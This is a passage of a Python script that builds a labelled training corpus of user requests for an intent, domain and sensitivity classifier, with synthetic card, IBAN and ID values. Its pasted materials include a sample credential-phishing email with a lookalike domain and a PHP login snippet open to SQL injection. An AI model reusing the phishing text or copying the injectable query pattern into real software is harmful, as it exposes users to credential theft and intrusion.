"""Sixth hand-written TRAIN corpus (writes ``train_diverse6.jsonl``).

Why: the intent model does well on its own template split but loses points on
hand-written sets by other authors. This corpus was written by yet another
author, in the voice of an evaluator trying to catch a classifier out, without
running the classifier on it or looking at its errors. It leans on:

* surface words that point at one label while the ask is another -- "summary"
  in a draft request ("write a summary email to the board" is draft), money,
  law, health or password words in a general ask (a limerick about a CFO, a
  cover letter for a bank job), "code" in a security question, "translate" used
  loosely for "explain", "classify" used for a yes/no question;
* chatty multi-asks chained with "? and", ". also", ", and if ..." -- each
  clause is its own task in request order;
* greetings and thanks as their own turn (a standalone "hi!" or "cheers" row,
  and a greeting sentence as its own chat task ahead of a real ask);
* mostly mid-length requests (20-80 words) with pasted emails, logs, code,
  contracts and clinical notes, plus some terse ones;
* PII of every type in varied formats and hard negatives (order / invoice /
  ticket ids, version strings, 16-digit numbers failing Luhn, IBAN-shaped
  strings with a wrong checksum, dates, amounts).

It never reads fresh*.jsonl or test.jsonl (held out).

Label guide (consistent with the other sets): domain is whose expert you would
ask -- personal money, tax, insurance cover, prices, budgets, accounting,
markets -> finance; rights, disputes, appeals, contracts, compliance and
regulation, employment law -> legal; symptoms, drugs, care, clinical notes,
health records -> medical; accounts, attacks, phishing, malware, access
control, vulnerabilities -> security; an office, social, technical-but-not-
security or creative ask that only mentions such words -> general. A task
whose own words are neutral takes the domain of the material it acts on.
Complexity is low unless the task weighs options / needs a multi-step argument
(medium) or a long structured deliverable / deep analysis (high). Sensitivity:
public by default, internal for internal business material, confidential for
personal data, restricted for cards / IBANs / SSNs / NRICs / credentials. A
row's pasted material and PII raise the sensitivity of every task in it.

Row format, one per line: ``spec [=> clause] [;; spec => clause ...] | text``.
spec is ``[!]intent d [m|h] [i|c|r] [+retr] [+web] [+code]`` (d in g/f/l/m/s;
complexity defaults to low; math always gets the calculator; a leading ``!``
marks a hard-negative row with no PII). In the text, ``{NAME}`` pastes a
material after a blank line, ``{CARD1}`` / ``{IBAN1}`` / ``{NRIC1}`` insert a
generated valid value (marked), ``{BADCARD1}`` / ``{BADIBAN1}`` /
``{BADNRIC1}`` insert an unmarked look-alike, ``<<TYPE:value>>`` marks a
hand-written PII value, and ``\\n`` is a newline. Multi-task clauses are
verbatim substrings of the text.
Usage: ``python tests/data/intent/train_diverse6_source.py`` (rewrites the
jsonl, validates it and prints per-intent / per-domain counts).
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

import re

from corpus import (
    HERE,
    Placeholders,
    Row,
    Values,
    flagged,
    group4,
    iban_valid,
    line_rows,
    luhn_valid,
    mark,
    pv,
    write_and_check,
)

_v = Values(60606)
_rng = _v.rng
_card = _v.card


# look-alikes of this corpus move the check digit / letter by a random amount
def _bad_card(prefix: str, sep: str) -> str:
    num = pv._luhn_complete(prefix, 16, _rng)
    num = num[:-1] + str((int(num[-1]) + _rng.randint(1, 9)) % 10)
    assert not luhn_valid(num)
    return sep.join(num[i : i + 4] for i in range(0, 16, 4))


def _iban(country: str, spaced: bool, valid: bool = True) -> str:
    if valid:
        return _v.iban(country, spaced)
    bban = pv._bban(country, _rng)
    check = int(pv._iban_check(country, bban))
    compact = country + f"{(check + _rng.randint(3, 60)) % 97 + 2:02d}" + bban
    assert not iban_valid(compact), compact
    return group4(compact) if spaced else compact


def _nric(prefix: str, valid: bool = True) -> str:
    value = _v.nric(prefix)
    if valid:
        return value
    return value[:-1] + _rng.choice(
        [c for c in "ABCDEFGHIJKLMNPQRTUWXZ" if c != value[-1]]
    )


# generated values: valid ones are marked, look-alikes are left bare
_GEN: dict[str, str] = {
    "CARD1": mark("CREDIT_CARD", _card("4", 16, " ")),
    "CARD2": mark("CREDIT_CARD", _card("54", 16, "-")),
    "CARD3": mark("CREDIT_CARD", _card("37", 15, " ")),
    "CARD4": mark("CREDIT_CARD", _card("4", 16, "")),
    "CARD5": mark("CREDIT_CARD", _card("6011", 16, "-")),
    "CARD6": mark("CREDIT_CARD", _card("2720", 16, "")),
    "CARD7": mark("CREDIT_CARD", _card("51", 16, " ")),
    "CARD8": mark("CREDIT_CARD", _card("34", 15, "")),
    "CARD9": mark("CREDIT_CARD", _card("4", 16, "-")),
    "IBAN1": mark("IBAN", _iban("DE", True)),
    "IBAN2": mark("IBAN", _iban("GB", False)),
    "IBAN3": mark("IBAN", _iban("FR", True)),
    "IBAN4": mark("IBAN", _iban("NL", False)),
    "IBAN5": mark("IBAN", _iban("ES", True)),
    "IBAN6": mark("IBAN", _iban("IT", False)),
    "IBAN7": mark("IBAN", _iban("CH", True)),
    "IBAN8": mark("IBAN", _iban("BE", False)),
    "IBAN9": mark("IBAN", _iban("IE", True)),
    "IBAN10": mark("IBAN", _iban("PL", True)),
    "IBAN11": mark("IBAN", _iban("NO", False)),
    "IBAN12": mark("IBAN", _iban("AT", True)),
    "NRIC1": mark("SG_NRIC", _nric("S")),
    "NRIC2": mark("SG_NRIC", _nric("T")),
    "NRIC3": mark("SG_NRIC", _nric("F")),
    "NRIC4": mark("SG_NRIC", _nric("G")),
    "NRIC5": mark("SG_NRIC", _nric("M")),
    "BADCARD1": _bad_card("4", " "),
    "BADCARD2": _bad_card("5", "-"),
    "BADCARD3": _bad_card("4", ""),
    "BADCARD4": _bad_card("6", " "),
    "BADCARD5": _bad_card("3", "-"),
    "BADCARD6": _bad_card("4", ""),
    "BADIBAN1": _iban("DE", True, valid=False),
    "BADIBAN2": _iban("GB", False, valid=False),
    "BADIBAN3": _iban("FR", True, valid=False),
    "BADIBAN4": _iban("NL", False, valid=False),
    "BADIBAN5": _iban("ES", True, valid=False),
    "BADIBAN6": _iban("IT", False, valid=False),
    "BADNRIC1": _nric("S", valid=False),
    "BADNRIC2": _nric("T", valid=False),
}


# pasted material: name -> (text, sensitivity it implies)
_MAT: dict[str, tuple[str, str]] = {
    "LEASE": (
        "7.2 Break option. The Tenant may terminate this Lease on the third anniversary of the Term Commencement Date by giving the Landlord not less than six months' prior written notice, provided that (a) the Tenant has paid all rent due up to the break date and (b) the Tenant gives vacant possession. If either condition is not strictly met, the notice shall be of no effect.",
        "public",
    ),
    "NDA": (
        "4. Confidential Information excludes information that (i) is or becomes public other than through breach of this Agreement; (ii) was lawfully known to the Recipient before disclosure; (iii) is independently developed. 5. The obligations in this Agreement survive for five (5) years after termination. 6. The Recipient shall not solicit any employee of the Discloser for 24 months.",
        "internal",
    ),
    "DISCHARGE": (
        "DISCHARGE SUMMARY - Patient: <<PERSON:Harold Brennan>>, 74M. Admitted 02/03 with community-acquired pneumonia, CURB-65 score 2. Treated with IV co-amoxiclav then oral doxycycline. Background: COPD, AF on apixaban 5 mg BD, T2DM. O2 sats 95% on air at discharge. Follow-up: CXR in 6 weeks, GP to review inhalers; apixaban unchanged. Discharged home 07/03 with daughter.",
        "confidential",
    ),
    "AUTHLOG": (
        "Mar 11 02:14:07 bastion sshd[2231]: Failed password for invalid user admin from <<IP_ADDRESS:91.241.19.84>> port 51122 ssh2\nMar 11 02:14:09 bastion sshd[2231]: Failed password for invalid user oracle from <<IP_ADDRESS:91.241.19.84>> port 51140 ssh2\nMar 11 02:14:12 bastion sshd[2240]: Failed password for root from <<IP_ADDRESS:91.241.19.84>> port 51177 ssh2\nMar 11 02:19:55 bastion sshd[2301]: Accepted publickey for deploy from <<IP_ADDRESS:2a01:4f8:c0c:1a5e::2>> port 40022 ssh2",
        "confidential",
    ),
    "PHISH": (
        "From: IT Service Desk <<<EMAIL:it-helpdesk@m1crosoft-support.co>>>\nSubject: ACTION REQUIRED: mailbox quota exceeded\n\nDear user, your mailbox has exceeded its storage limit and incoming mail will be suspended within 24 hours. To keep your account active, verify your credentials at the secure portal below. Failure to do so will result in permanent loss of data.\n\nhttps://outlook-verify-quota.web.app/login\n\nRegards, IT Support Team",
        "confidential",
    ),
    "PYBUG": (
        "```python\ndef average_order_value(orders):\n    total = 0\n    for o in orders:\n        total += o['amount']\n    return total / len(orders)\n\nprint(average_order_value([]))\n```\nTraceback (most recent call last):\n  File \"aov.py\", line 7, in <module>\nZeroDivisionError: division by zero",
        "internal",
    ),
    "LOGINPHP": (
        "```php\n$user = $_POST['user'];\n$pass = $_POST['pass'];\n$sql = \"SELECT id FROM users WHERE name='$user' AND password=md5('$pass')\";\n$res = mysqli_query($conn, $sql);\nif (mysqli_num_rows($res) > 0) { $_SESSION['auth'] = true; }\n```",
        "internal",
    ),
    "SUPPLIER": (
        "Hi team,\n\nFollowing our call: invoice INV-88214 (14,200.00) was due on 30 April and is now overdue. INV-88301 (3,975.50) falls due on 31 May. We can offer a 2% early-settlement discount on INV-88301 if paid by 20 May. Please also note our new payment terms from 1 July: 30 days net instead of 45, and a late-payment charge of 1.5% per month.\n\nKind regards,\nAccounts Receivable",
        "internal",
    ),
    "REVIEWS": (
        "1. 'Arrived a day early and the fit is perfect. Will buy again.'\n2. 'The app keeps logging me out, third time this week. Losing patience.'\n3. 'It's fine I guess. Does what it says.'\n4. 'Customer service sorted my refund in ten minutes, genuinely impressed.'\n5. 'Box was crushed, item fine. Meh.'",
        "public",
    ),
    "BUDGET": (
        "Marketing budget FY25 (draft)\nPaid search      120,000  (FY24: 135,000)\nEvents            60,000  (FY24: 42,000)\nContent/SEO       45,000  (FY24: 45,000)\nAgency retainer   36,000  (FY24: 48,000)\nTools & software  18,500  (FY24: 16,200)\nContingency       10,000  (FY24: 0)\nTotal            289,500  (FY24: 286,200)",
        "internal",
    ),
    "STANDUP": (
        "Standup Tue: Ana - finished CSV export, starting on filters. Ben - blocked on the staging DB migration, needs DBA. Chen - on leave Thu/Fri. Dev - flaky e2e test on checkout, investigating; may slip the demo. Release still pencilled for Monday.",
        "internal",
    ),
    "DPA": (
        "Clause 9 - Sub-processors. The Processor shall not engage another processor without prior specific or general written authorisation of the Controller. In the case of general written authorisation, the Processor shall inform the Controller of any intended changes at least 30 days in advance, giving the Controller the opportunity to object. Clause 12 - The Processor shall notify the Controller without undue delay, and in any event within 48 hours, after becoming aware of a personal data breach.",
        "public",
    ),
    "MUMMSG": (
        "Hi, it's about my mum, <<PERSON:Eileen Marsh>>, 81. Since Sunday she's been more confused than usual, keeps getting up at night to wee and says it burns. No fever that I can tell. She's on donepezil and amlodipine. The care home says she's 'just tired'. Should I push for a GP visit?",
        "confidential",
    ),
    "TRIAL": (
        "Background: Whether early mobilisation after hip fracture surgery reduces 30-day mortality is unclear. Methods: Multicentre RCT, 1,112 patients aged >65 randomised to mobilisation within 24 h vs usual care (48-72 h). Results: 30-day mortality 4.1% vs 5.3% (RR 0.77, 95% CI 0.46-1.29). Delirium was lower in the early group (11% vs 17%). Conclusion: Early mobilisation was safe and reduced delirium; the mortality difference was not significant.",
        "public",
    ),
    "ADVISORY": (
        "Security advisory VSA-2024-031: An authentication bypass in the web management interface of EdgeGate appliances running firmware 7.0.0 through 7.2.3 allows a remote unauthenticated attacker to obtain admin sessions via a crafted Host header. CVSS 9.8. Fixed in 7.2.4 and 7.1.9. Workaround: restrict management interface to trusted networks. Exploitation in the wild has been reported.",
        "public",
    ),
    "K8SLOG": (
        "NAME                         READY   STATUS             RESTARTS   AGE\nreport-worker-7c9f8d-x2kqp   0/1     CrashLoopBackOff   14         52m\n\nLast State: Terminated\n  Reason: OOMKilled\n  Exit Code: 137\nLimits: memory 512Mi\nRequests: memory 256Mi",
        "internal",
    ),
    "TERMLETTER": (
        "Dear <<PERSON:Rafael Ortiz>>,\n\nFurther to the meeting on 12 June, we confirm that your employment will end on 30 June by reason of redundancy. You will receive statutory redundancy pay of 6,840 and payment in lieu of notice. You have the right to appeal this decision within 5 working days by writing to HR. Your final payslip will include accrued holiday of 4.5 days.\n\nYours sincerely, People Team",
        "confidential",
    ),
    "PAYSLIP": (
        "PAYSLIP Oct - Employee: <<PERSON:Nadia Kowalczyk>>  Ref E20417\nBasic pay        3,750.00\nOvertime           212.40\nGross            3,962.40\nIncome tax        -598.20\nNational Ins.     -251.36\nPension (5%)      -198.12\nStudent loan       -92.00\nNet pay          2,822.72",
        "confidential",
    ),
    "SPANISH": (
        "Estimado equipo: les confirmamos que la entrega del pedido se retrasará dos semanas por problemas con el proveedor de embalaje. Lamentamos las molestias y les ofrecemos un descuento del 5% en su próxima compra. Quedamos a su disposición para cualquier consulta.",
        "public",
    ),
    "GERCLAUSE": (
        "§ 5 Kündigung: Das Arbeitsverhältnis kann von beiden Seiten mit einer Frist von drei Monaten zum Quartalsende gekündigt werden. Das Recht zur außerordentlichen Kündigung aus wichtigem Grund bleibt unberührt.",
        "public",
    ),
    "INCIDENT": (
        "Timeline (UTC)\n08:02 EDR alert: rundll32 spawning from Outlook on FIN-LT-044\n08:09 User reports 'invoice' attachment opened\n08:15 Host isolated by SOC\n08:40 Same sender domain found in 37 other mailboxes; purge started\n09:30 Credential reset for affected user; MFA re-enrolled\n11:00 No lateral movement found in logs so far",
        "internal",
    ),
    "MEDLIST": (
        "Current meds (<<PERSON:Joan Whitfield>>, 68F): warfarin 3 mg daily, simvastatin 40 mg nocte, omeprazole 20 mg, paracetamol 1 g QDS PRN. New from urgent care yesterday: clarithromycin 500 mg BD x 7 days for chest infection.",
        "confidential",
    ),
    "EXPPOLICY": (
        "Expenses policy (extract): Economy class for flights under 6 hours. Hotels up to 180/night in major cities, 120 elsewhere. Meals up to 45/day when travelling, alcohol not reimbursed. Claims must be submitted within 30 days with itemised receipts. Mileage at 0.45 per mile for the first 10,000 miles.",
        "internal",
    ),
    "ONCALL": (
        "#oncall\n[09:12] mo: checkout latency p95 at 4.2s since the 09:00 deploy\n[09:14] kate: rolling back api to 3.18.2\n[09:21] kate: rollback done, p95 back to 380ms\n[09:25] mo: root cause looks like the new ORM eager-load on cart items, N+1 gone wrong\n[09:40] kate: ticket opened, fix + load test before redeploy",
        "internal",
    ),
    "VENDORQ": (
        "Vendor security questionnaire - answers from CloudNotes Ltd:\nQ1 Data encrypted at rest? Yes, AES-256.\nQ2 SSO supported? Only on Enterprise plan.\nQ3 Pen test in last 12 months? 'Planned for next year.'\nQ4 Where is data hosted? US and 'other regions as needed'.\nQ5 Breach notification time? 'Reasonable time frame.'\nQ6 MFA for admin accounts? Optional.",
        "internal",
    ),
    "CUSTEMAIL": (
        "Subject: cancelled order, still no refund\n\nI cancelled order 4471-20931 on the 2nd and was told the refund takes 5 days. It's now the 19th. I've emailed twice and had an automated reply both times. I've been a customer for six years and honestly this is making me reconsider. Please just tell me when I'll get my money.",
        "public",
    ),
    "TENANCY": (
        "Clause 14: The tenant shall not keep any pets at the property without the landlord's prior written consent, such consent not to be unreasonably withheld. Clause 15: The deposit of 1,800 will be protected in a government-approved scheme within 30 days of receipt. Clause 16: The landlord may enter the property on 24 hours' written notice except in an emergency.",
        "public",
    ),
    "GPNOTE": (
        "S: 3/7 sore throat, fever 38.4, no cough. O: tonsillar exudate bilaterally, tender anterior cervical nodes. FeverPAIN 4. A: likely strep tonsillitis. P: phenoxymethylpenicillin 500 mg QDS 10/7, safety-netted re: quinsy signs, review if not better in 48h.",
        "confidential",
    ),
    "RETRO": (
        "Sprint 42 retro\n+ shipped the billing page redesign on time\n+ new pairing rota works\n- two prod incidents from config drift\n- QA environment down for 1.5 days\n- too many ad-hoc meetings Wed\nActions: config in git (Omar), QA env monitoring (Lina), no-meeting Wednesday mornings (all)",
        "internal",
    ),
}


FINANCE = r"""
qa f | what's the actual difference between a Roth IRA and a traditional one? plain words please
qa f | If I sell shares I've held for 8 months, is that taxed differently from ones I've held 2 years?
qa f | why do bond prices go down when rates go up. I've read it five times and it still doesn't click
qa f | who eats the cost of a chargeback - the shop or the card company?
qa f | Does standard home insurance usually cover water coming through the ceiling from the flat upstairs, or is that the neighbour's problem?
qa f | what does 'excess' mean on my car insurance
qa f | ETF vs mutual fund — what's the real difference for someone putting in 200 a month?
qa f | how does a small business get VAT back on stuff it buys? do we just knock it off what we owe?
qa f | What do companies mean by "adjusted EBITDA" and why is it always bigger than the normal one?
qa f | is an annuity basically insurance against living too long?
qa f | how do payday loans end up costing 1000% APR, is that real
reasoning f m | Summarising where I am: 32, about 20k saved, no debt, renting, stable job. Do I put it all into an index fund now or feed it in monthly over a year? I want the reasoning, not just an answer.
reasoning f m | our payroll provider is moving us from 14/employee/month to a flat 900/month. we're 38 people now and hiring maybe 10 next year. does the switch make sense for us?
reasoning f m | The insurer offered 2,400 for my written-off car, but the same model with similar miles sells for about 3,100 locally. Is it worth disputing the valuation, and what evidence would actually move them?
reasoning f m | gross margin went from 42% to 35% over a year, prices unchanged, volumes up. What could explain that and what would you check first?
reasoning f m | Lease or buy three laptops for new starters? We're profitable but cash is tight this quarter.
reasoning f h | I want a realistic plan to clear 14k of credit card debt across three cards (24.9%, 19.9%, 0% until August) in two years. Take-home is 2,300, rent 950, other bills about 600. Lay it out month by month with the reasoning for the order.
reasoning f m | fixed or tracker mortgage when everyone says rates might fall next year but nobody actually knows?
math f | 5,000 at 4.2% compounded monthly for 3 years, end balance?
math f | If I put 12% of a 64k salary into my pension before tax and my marginal rate is 40%, how much less do I actually take home a year?
math f | monthly repayment on 310,000 over 25 years at 4.75%
math f | We invoiced 84,300 in Q2 and collected 71,950 of it. What percentage is still outstanding?
math f | break-even units: fixed costs 18k a month, sell at 45, variable cost 27 each
math f | I need 2,000 net for a contractor payment and there's 22% withholding. What's the gross figure?
math f | the fund charges 0.85% a year vs 0.12% for the tracker. on 40k over 20 years at 6% growth, roughly how much do fees cost me?
code f | pandas: group a transactions dataframe by month and flag months where spend is more than 20% above the trailing 6-month average
code f | why does =XIRR(B2:B14,A2:A14) give me #NUM! — the B column has the investment as a negative first value and then dividends
code f | SQL for monthly recurring revenue per plan, from a subscriptions table with start_date, end_date (nullable), plan and monthly_price
code f | write a python function that returns a loan amortisation schedule (period, payment, interest, principal, balance) as a list of dicts
draft f | Write a summary email to the board on Q3: revenue 4.1m (+12% q/q), burn down to 310k a month, runway now 19 months, one big renewal at risk. Upbeat but honest, under 200 words.
draft f | draft a letter to the tax office asking for a time-to-pay arrangement on my self-assessment bill of 6,420 — I can do 550 a month
draft f | compose a note to shareholders that we're cutting the dividend this year to fund the new plant, without it sounding like panic
draft f | Write up the claim description for my insurer: laptop stolen from the boot of my car on 3 March outside the gym, police reference pending, I have the receipt.
draft f | need a short paragraph for the handbook on client dinner expenses - per-head cap, alcohol rules, itemised receipts
draft f | reply to a customer who's asking why their annual premium went up 18% when they made no claims
summarize f i | tl;dr this for the exec channel{BUDGET}
summarize f | Shrink this to 3 bullets for my notes: 'Revenue rose 6% to 1.42bn, helped by pricing, while gross margin fell 140bps on hardware mix. Free cash flow was 97m after a working-capital build. Full-year guidance was trimmed to 5-6% growth from 7-8%, and the 150m buyback is complete.'
extract f i | Pull each invoice number, amount and due date from this into a table.{SUPPLIER}
extract f | which account fees are in here and how much is each: "Monthly fee 4.50. Foreign transaction fee 2.99%. ATM abroad 1.50 per withdrawal. Paper statements 2.00 each. Unarranged overdraft 39.9% EAR."
classify f | bucket these statement lines into groceries / transport / utilities / eating out / other:\nTESCO EXTRA 54.20\nTFL TRAVEL CH 7.80\nOCTOPUS ENERGY 96.00\nPRET A MANGER 6.45\nAMAZON MKTPLACE 23.99\nUBER *TRIP 14.30
classify f | rate each as low, medium or high risk for a retiree: government bonds, a single tech stock, bitcoin, money market fund, global index fund
classify f | capex or opex? new forklift, software subscription, office cleaning contract, server rack, annual audit fee
sentiment f | Bullish or bearish? "Management reiterated guidance, but the lack of detail on margins left us uneasy heading into Q4."
sentiment f | On a 1-5 scale how annoyed is this policyholder: "Third time this year you've billed me the wrong premium. Sort it or I'm leaving."
sentiment f i | what's the mood in this from our CFO — worried, or just cautious? "We're fine on cash. I'd just rather not find out what 'fine' means if the Henderson deal slips again."
translate f | Spanish please, for our Madrid client: "The second instalment of 12,500 EUR is due on 30 September. Late payments incur interest at 1% per month."
translate f | can you put this in Japanese: "Your refund has been processed and should appear on your statement within 3-5 business days."
translate f | My tax letter is in Dutch — what does "U moet het verschuldigde bedrag vóór 1 mei voldoen, anders volgt een aanmaning." say in English?
qa f | how do I know if I need to register for VAT as a freelancer, is it by turnover?
qa f | what's the difference between gross margin and markup? my boss uses them like they're the same
reasoning f m | A client wants a 15% discount in exchange for paying 12 months upfront. Our cost of capital is about 9%. Is that a good trade?
summarize f c | Explain my payslip back to me in two sentences{PAYSLIP}
qa f | what is 'negative equity' on a car loan
creative f | Write a short, cheerful rhyme that teaches kids the 'save half, spend half' rule for their pocket money.
draft f i | Write the internal announcement: mileage rate rises from 0.45 to 0.50 per mile from 1 April, claims after that date use the new rate.
"""

LEGAL = r"""
qa l | can my employer actually stop me having a second job in the evenings?
qa l | If I'm on a zero-hours contract am I still entitled to paid holiday?
qa l | what's the difference between a warranty and an indemnity in a contract
qa l | how long does a company have to respond to a subject access request
qa l | Is an email "yes that works for us" enough to form a binding contract?
qa l | can a landlord keep the whole deposit for a bit of wear on the carpet
qa l | What does "time is of the essence" mean in a supply agreement?
qa l | my neighbour's CCTV points straight into my garden. is that allowed?
qa l | do I have to give a reason when I resign
qa l | What's the limitation period for suing over a breach of contract, roughly?
qa l | can a shop refuse a refund on something faulty if I've lost the receipt
qa l | is it legal to record a phone call with my boss without telling him
reasoning l m | We've been asked to sign a supplier's terms with unlimited liability on our side and a cap of 12 months' fees on theirs. Push back, accept, or walk away? Walk me through it.
reasoning l m | An ex-employee posted on LinkedIn that we "cook the books". Is it worth sending a defamation letter or does that just make it worse?
reasoning l m | My employer changed my shift pattern without asking. If I refuse the new hours, what are my realistic options and risks?
reasoning l h | Our SaaS is about to launch in the EU. Give me a structured view of which compliance obligations we probably need to think about (data protection, consumer law, accessibility), in priority order, and why.
reasoning l m | is this break clause actually usable for us if we're two weeks behind on rent right now?{LEASE}
reasoning l m | We use a freelance designer for our logo. Do we own it? If not, what's the cleanest way to fix that before we trademark it?
draft l | Draft a formal letter to my landlord disputing a 600 deduction from my deposit for "cleaning", citing the check-out report that says the flat was clean.
draft l | write a short clause for our consulting agreement saying IP created during the project belongs to the client once paid in full
draft l | Draft an appeal against my parking fine: the signs were covered by scaffolding and I have photos.
draft l | compose a polite but firm letter before action to a client who owes us 8,400 for 60 days
draft l | Plain-English rewrite of this clause for our customers, same meaning, no legalese:{DPA}
draft l c | Write my appeal to HR against the redundancy decision — I think the selection scoring was unfair.{TERMLETTER}
summarize l | what does this clause boil down to? two lines max{NDA}
summarize l | Condense this tenancy section into three bullet points a student tenant would understand.{TENANCY}
extract l | List every deadline and notice period in this, with what triggers each.{DPA}
extract l | pull out the parties, governing law and term from: "This Agreement is made on 4 March 2024 between Halden Logistics Ltd (the Supplier) and Brookfield Retail plc (the Customer). It shall continue for 36 months and is governed by the laws of Scotland."
classify l | For each of these, is it a civil or criminal matter: unpaid invoice, shoplifting, noisy neighbour dispute, drink-driving, unfair dismissal
classify l | Tag each clause as obligation, right or restriction:\n(a) The Supplier shall deliver within 10 days.\n(b) The Customer may audit the Supplier once a year.\n(c) The Supplier shall not subcontract without consent.
classify l | GDPR lawful basis for each: payroll processing, marketing emails to past customers, CCTV in the warehouse, sharing data with the tax authority
sentiment l | How hostile is the tone of this letter from the other side's solicitor? "Your client's continued refusal to engage is noted and will be brought to the court's attention in due course."
sentiment l | is this reply from the landlord conciliatory or is he digging in? "I've reviewed your points. I still think the deduction is fair but I'm open to talking it through."
translate l | translate this German contract clause into English, keep it precise{GERCLAUSE}
translate l | French version of: "Any dispute arising out of this agreement shall be submitted to the exclusive jurisdiction of the courts of Paris."
translate l | Can you render "without prejudice save as to costs" in Spanish legal terminology, for a letter to a Madrid firm?
math l | Statutory redundancy: 1.5 weeks' pay per year over 41, 1 week for 22-40, weekly pay capped at 700. She's 45 with 9 years' service, 820 a week. How much?
math f | Late payment interest at 8% above a 5.25% base rate on an 8,400 invoice, 73 days late — what's the interest?
code l | Write a regex that finds clause references like "Clause 12.3(b)" or "clause 4" in contract text.
code l | python script that scans a folder of .docx contracts and lists any that mention "automatic renewal" along with the sentence
creative l | Make up a memorable mnemonic for the six lawful bases under GDPR for our compliance training.
qa l | what is a 'deed' and why do some documents need to be signed as one
qa l | Difference between trademark and copyright for a company logo?
reasoning l m | A customer says our 'no refunds on sale items' sign means nothing under consumer law. Are they right, and should we change the sign?
qa l | whats the notice period if I'm sacked after 3 years
extract l c | Get the dates, amounts and the appeal deadline from this letter.{TERMLETTER}
"""


MEDICAL = r"""
qa m | what's the difference between paracetamol and ibuprofen for a headache, is one better?
qa m | How long after a tetanus jab does it actually protect you?
qa m | can you drink alcohol on a course of metronidazole? pharmacist said no but didn't say why
qa m | what does a high CRP mean on a blood test
qa m | Is it normal for a 2 year old to still not say many words?
qa m | what is the point of a statin if my cholesterol is only slightly high
qa m | how does an inhaler spacer work and does an adult really need one
qa m | What's the difference between type 1 and type 2 diabetes, in simple terms?
qa m | are migraines with aura riskier than normal migraines
qa m | why do you have to finish a course of antibiotics even when you feel better? heard that's not true anymore
qa m | what happens in a colonoscopy, do they knock you out
reasoning m m | My dad's 78, on apixaban, and keeps getting dizzy when he stands up. Could it be his meds or something else? What should we ask his GP?
reasoning m m | Tightness across my chest when I walk uphill, goes away after a couple of minutes of rest. I'm 58 and smoke. How worried should I be and what do I do today?
reasoning m m | should I take my 4 year old to A&E for a temperature of 39.5 that comes down with Calpol, or wait for the GP in the morning?
reasoning m m | Which is the likelier cause of ankle swelling in someone who started amlodipine 3 weeks ago — the drug or heart failure? How would you tell them apart?
reasoning m h | Compare the evidence for physiotherapy vs steroid injection vs surgery for a frozen shoulder, and set out how a patient might choose between them at each stage.
reasoning m m c | Should I push for a GP visit, or is the care home right? What could be going on?{MUMMSG}
draft m | Write a short letter to my GP asking for a referral to a dermatologist for a mole that's changed shape over 3 months.
draft m | draft patient-friendly discharge advice for someone going home after a day-case knee arthroscopy
draft m | Compose the message to parents: a case of chickenpox in Year 2, what to look for, when to keep kids home.
draft m c | turn this into a GP letter — clear, short, no jargon where it's not needed{DISCHARGE}
draft m | write a text reminder for patients about their flu jab appointments, include how to cancel
summarize m c | Summarise this for the family in plain language, they're not medical.{DISCHARGE}
summarize m | Give me the gist of this abstract in 2 sentences for a journal club slide.{TRIAL}
summarize m c | condense to one line for the handover sheet{GPNOTE}
extract m c | List the drugs, doses and frequencies as a table.{MEDLIST}
extract m | Pull out the sample size, the two arms, the primary outcome numbers and the CI.{TRIAL}
extract m c | what diagnoses and follow-up actions are in this? bullet them{DISCHARGE}
classify m | Triage each as emergency, urgent (same day) or routine: sudden slurred speech; a rash that doesn't fade under a glass; ingrown toenail; painful urination for 2 days; repeat prescription request
classify m | Which of these are antibiotics and which are antivirals: amoxicillin, aciclovir, oseltamivir, doxycycline, valaciclovir, nitrofurantoin
classify m | Label each symptom by body system: palpitations, wheeze, jaundice, tingling in fingers, blood in urine
sentiment m | How is this patient feeling about the surgery? "Honestly I'm terrified, but everyone keeps telling me it's routine so I guess I'll be fine."
sentiment m | Score the satisfaction in this feedback 1-5: "Nurses were lovely but I waited 6 hours for a bed and nobody told me why."
translate m | Translate into Polish for a patient: "Take one tablet twice a day with food. Do not drive if you feel drowsy."
translate m | how do I say "are you allergic to any medicines?" in Arabic, for the ward
translate m | Italian to English please: "Assumere una compressa al giorno a stomaco vuoto per 14 giorni."
math m | A child weighs 18 kg and the dose is 15 mg/kg of paracetamol. Suspension is 120 mg/5 ml. How many ml?
math m | Infusion: 1,000 ml over 8 hours with a giving set of 20 drops/ml. Drops per minute?
math m | BMI for 1.68 m and 91 kg?
code m | Write a Python function that computes eGFR with the CKD-EPI 2021 equation from creatinine, age and sex.
code m | SQL to find patients with an HbA1c over 58 on their last two results, tables: patients(id), labs(patient_id, test, value, taken_at)
code m | regex to pull dose strings like "500 mg", "2.5mg" or "10 ml" out of prescription text
creative m | Come up with a mnemonic for the signs of a stroke that a 10 year old could remember.
creative m | write a four-line rhyme for the children's ward poster about washing hands before eating
qa m | is it safe to take the morning-after pill while breastfeeding
reasoning m m c | Any interaction I should worry about with the new antibiotic? What would you suggest?{MEDLIST}
qa m | What's a normal resting heart rate for a fit 40 year old?
qa m | my GP said my "eGFR is 58" - is that bad?
draft m | write the email to staff announcing the new falls-prevention checklist on the ward from Monday
"""


SECURITY = r"""
qa s | what actually is a passkey and is it safer than a password + authenticator app?
qa s | How does credential stuffing work, and why does MFA stop most of it?
qa s | whats the difference between a vulnerability scan and a pen test
qa s | Is it a problem that our S3 bucket policy has "Principal": "*" if the bucket names are random?
qa s | what does 'lateral movement' mean in an incident report
qa s | how do attackers get round SMS two-factor — is SIM swapping still a thing?
qa s | What is a code signing certificate and what happens if ours gets stolen?
qa s | Is it safe to paste an API key into a public code snippet if I change a couple of characters?
qa s | what's the point of least privilege if everyone's an admin anyway on their laptop
qa s | how does a WAF decide what to block
reasoning s m | We found a file in /var/www/uploads called thumb.php that nobody wrote. It's mostly base64 and ends with eval(). What is it probably doing, and what should we do in the next hour?
reasoning s m | Our CEO got a WhatsApp from "himself" asking finance to move 40k urgently. Finance didn't pay. Do we need to treat this as an incident or just warn people?
reasoning s m | Should we force password rotation every 90 days or drop it and require MFA plus breach checks instead? The auditors keep asking.
reasoning s h | Given this advisory, prioritise our response for 40 appliances across 6 sites (3 internet-facing), including interim mitigations, patch order and how to check whether we were already compromised.{ADVISORY}
reasoning s m | someone on the team used the same password for the AWS root account and their personal gmail, which leaked last year. how bad is this really and what order do we fix things in?
reasoning s m i | Based on these answers, would you let this vendor hold our customer data? What would you need from them first?{VENDORQ}
draft s | write a two-paragraph warning to all staff about fake parcel delivery texts, include what to do if they already clicked
draft s | Draft the password policy section for our handbook: length over complexity, no forced rotation, MFA everywhere, password manager provided.
